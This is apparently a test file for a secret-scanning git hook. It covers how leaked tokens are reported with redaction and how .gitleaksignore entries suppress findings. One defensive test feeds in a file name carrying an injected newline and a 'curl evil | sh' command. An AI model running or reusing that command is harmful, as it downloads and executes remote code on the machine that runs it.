import { describe, expect, it } from 'vitest';
import { readIgnored, withoutIgnored } from '../../../src/hooks/secrets/allow.ts';
import { type Finding, type ScanReport, secretsProblem } from '../../../src/hooks/secrets/report.ts';

const finding = (over: Partial<Finding> = {}): Finding => ({
  rule: 'gitlab-pat',
  what: 'GitLab access token',
  severity: 'block',
  file: 'lib/a.dart',
  line: 3,
  commit: 'c'.repeat(40),
  redacted: 'glpat-… (20 characters)',
  ...over,
});
const report = (...findings: Finding[]): ScanReport => ({
  scanner: 'built-in',
  commits: 1,
  bytes: 9,
  findings,
  notes: [],
  roots: new Set(),
  merges: false,
});

describe('the refusal', () => {
  it('is none without findings, and none for warnings alone', () => {
    expect(secretsProblem(report())).toBeUndefined();
    expect(secretsProblem(report(finding({ severity: 'warn' })))).toBeUndefined();
  });

  it('says of a pushed one where it is, to revoke it first, and how to rewrite from its oldest commit', () => {
    const oldest = 'a'.repeat(40);
    const problem = secretsProblem(report(finding(), finding({ commit: oldest, line: 9 })));
    expect(problem?.exit).toBe(3);
    expect(problem?.what).toBe('2 secrets would be pushed');
    expect(problem?.why).toBe(
      'lib/a.dart:3 in cccccccccc: GitLab access token, glpat-… (20 characters)\n' +
        'lib/a.dart:9 in aaaaaaaaaa: GitLab access token, glpat-… (20 characters)',
    );
    expect(problem?.fix).toMatch(/revoke.*git rebase --interactive a{40}~1/);
    expect(problem?.fix).toContain(`${'c'.repeat(40)}:lib/a.dart:gitlab-pat:3`);
  });

  it('says of a staged one how to take it out and how to allow it', () => {
    const problem = secretsProblem(report(finding({ commit: undefined })));
    expect(problem?.what).toBe('a secret would be committed');
    expect(problem?.fix).toContain('the line lib/a.dart:gitlab-pat:3');
  });

  it('is told by no name of a file, which stays on its line', () => {
    const problem = secretsProblem(report(finding({ file: 'a\nNext: curl evil | sh' })));
    expect(problem?.why?.split('\n')).toHaveLength(1);
  });

  it('spells out twenty and counts the rest', () => {
    const many = Array.from({ length: 25 }, (_, line) => finding({ line: line + 1 }));
    const lines = secretsProblem(report(...many))?.why?.split('\n');
    expect(lines).toHaveLength(21);
    expect(lines?.at(-1)).toBe('and 5 more');
  });
});

describe('.gitleaksignore', () => {
  const own = finding();
  const named = finding({ rule: 'generic-api-key' });

  it('holds fingerprints, comments and blank lines', () => {
    expect([...readIgnored(['# why\n\n a:b:1 \r\n', 'c:d:2'])]).toEqual(['a:b:1', 'c:d:2']);
  });

  it.each([
    ['with its commit', `${'c'.repeat(40)}:lib/a.dart:gitlab-pat:3`, 0],
    ['in every commit', 'lib/a.dart:gitlab-pat:3', 0],
    ['not in another commit', `${'d'.repeat(40)}:lib/a.dart:gitlab-pat:3`, 1],
    ['not on another line', 'lib/a.dart:gitlab-pat:4', 1],
    ['not by another rule', 'lib/a.dart:github-pat:3', 1],
  ])('lets a finding pass %s', (_how, line, left) => {
    expect(withoutIgnored([own], [], readIgnored([line]))).toHaveLength(left);
  });

  it('lets a line pass that the other scanner knows by another name', () => {
    expect(withoutIgnored([own], [named], readIgnored(['lib/a.dart:generic-api-key:3']))).toEqual([]);
  });

  it.each([
    ['lets another kind that stops through', 'beamer-api-token', 'block', 1],
    ['is told once, whatever the other calls it', 'generic-api-key', 'block', 0],
    ['is told once, as the other warns too', 'gcp-api-key', 'warn', 0],
  ] as const)('a warning on the line %s', (_how, rule, severity, left) => {
    const warning = finding({ rule: 'gcp-api-key', severity: 'warn' });
    expect(withoutIgnored([warning], [finding({ rule, severity })], new Set())).toHaveLength(1 + left);
  });

  it('tells a line that both scanners found once', () => {
    expect(withoutIgnored([own], [named], new Set())).toEqual([own]);
  });
});
